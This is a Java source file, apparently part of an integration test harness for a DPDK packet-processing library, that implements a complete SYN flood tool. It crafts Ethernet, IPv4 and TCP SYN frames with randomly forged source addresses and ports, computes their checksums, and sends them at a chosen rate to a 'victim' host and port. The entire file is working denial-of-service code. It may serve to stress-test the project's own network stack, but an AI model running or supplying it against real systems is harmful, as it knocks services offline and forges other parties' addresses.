package dev.peregrine.integration.harness;

import dev.peregrine.transport.dpdk.device.DpdkPort;
import dev.peregrine.transport.dpdk.device.DpdkPortSettings;
import dev.peregrine.transport.dpdk.device.PortQueue;
import dev.peregrine.transport.dpdk.eal.Eal;
import dev.peregrine.transport.dpdk.packet.Checksum;
import dev.peregrine.transport.dpdk.packet.EtherType;
import dev.peregrine.transport.dpdk.packet.EthernetHeader;
import dev.peregrine.transport.dpdk.packet.IpAddress;
import dev.peregrine.transport.dpdk.packet.IpPrefix;
import dev.peregrine.transport.dpdk.packet.IpProtocol;
import dev.peregrine.transport.dpdk.packet.Ipv4Header;
import dev.peregrine.transport.dpdk.packet.MacAddress;
import dev.peregrine.transport.dpdk.packet.NativeMemory;
import dev.peregrine.transport.dpdk.packet.PacketBuffer;
import dev.peregrine.transport.dpdk.packet.TcpHeader;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;

/**
 * A program: sends SYNs from addresses that do not exist, out of an interface of the kernel, until it has sent so many
 * and its input has ended. Says then how many it was.
 *
 * <p>Arguments: the interface, the Ethernet address of the victim, its IPv4 address and port, the number of SYNs and how
 * many of them a second.
 */
public final class SynFlood {

    private static final int BURST = 32;
    private static final int MSS_OPTION = 0x0204_05b4;
    private static final int SYN_LENGTH = TcpHeader.LENGTH + Integer.BYTES;

    private final SplittableRandom random = new SplittableRandom(1);
    private final PacketBuffer[] received = new PacketBuffer[BURST];
    private final PortQueue queue;
    private final long victimMac;
    private final int victim;
    private final int port;

    private SynFlood(PortQueue queue, String mac, String address, String port) {
        this.queue = queue;
        victimMac = MacAddress.parse(mac);
        victim = IpAddress.toIpv4(IpPrefix.parse(address + "/32").low());
        this.port = Integer.parseInt(port);
    }

    /** Runs it. */
    public static void main(String[] arguments) throws IOException {
        List<String> eal = new ArrayList<>(Setup.EAL);
        eal.add("--vdev=net_af_packet0,iface=" + arguments[0]);
        Eal environment = Eal.initialize(eal);
        try (DpdkPort device = DpdkPort.open(environment, 0, DpdkPortSettings.ofLoops(1))) {
            PortQueue queue = device.queues().getFirst();
            new SynFlood(queue, arguments[1], arguments[2], arguments[3])
                    .run(Long.parseLong(arguments[4]), Long.parseLong(arguments[5]));
            System.out.println("sent " + queue.queued());
        }
    }

    private void run(long count, long perSecond) {
        Thread input = Thread.ofPlatform().daemon().start(EndOfInput::await);
        System.out.println("flooding");
        long beginNanos = System.nanoTime();
        while (queue.queued() < count || input.isAlive()) {
            for (int i = 0; i < BURST; i++) {
                PacketBuffer syn = syn();
                if (syn != null) {
                    queue.transmit(syn);
                }
            }
            queue.flush();
            // What the victim answers arrives here too, and nobody wants it.
            for (int i = queue.receive(received) - 1; i >= 0; i--) {
                received[i].releasePacket();
            }
            LockSupport.parkNanos(beginNanos + queue.queued() * 1_000_000_000L / perSecond - System.nanoTime());
        }
    }

    private PacketBuffer syn() {
        PacketBuffer frame = queue.pool().allocate();
        if (frame == null) {
            return null;
        }
        int source = random.nextInt(0x0b00_0000, 0x7f00_0000);
        long at = frame.append(EthernetHeader.LENGTH + Ipv4Header.LENGTH + SYN_LENGTH);
        EthernetHeader.write(at, victimMac, queue.macAddress(), EtherType.IPV4);
        long ip = at + EthernetHeader.LENGTH;
        Ipv4Header.write(
                ip, Ipv4Header.LENGTH + SYN_LENGTH, 0, 0, Ipv4Header.DONT_FRAGMENT, 64, IpProtocol.TCP, source, victim);
        Checksum.completeIpv4(ip);
        long tcp = ip + Ipv4Header.LENGTH;
        int sourcePort = random.nextInt(1024, 65_536);
        TcpHeader.write(tcp, sourcePort, port, random.nextInt(), 0, SYN_LENGTH, TcpHeader.SYN, 65_535);
        NativeMemory.putInt(tcp + TcpHeader.LENGTH, MSS_OPTION);
        TcpHeader.checksum(tcp, 0);
        int pseudoHeader = Checksum.pseudoHeader(
                0, IpAddress.ofIpv4(source), 0, IpAddress.ofIpv4(victim), IpProtocol.TCP, SYN_LENGTH);
        TcpHeader.checksum(tcp, Checksum.finish(Checksum.add(pseudoHeader, Checksum.sum(tcp, SYN_LENGTH))));
        return frame;
    }
}
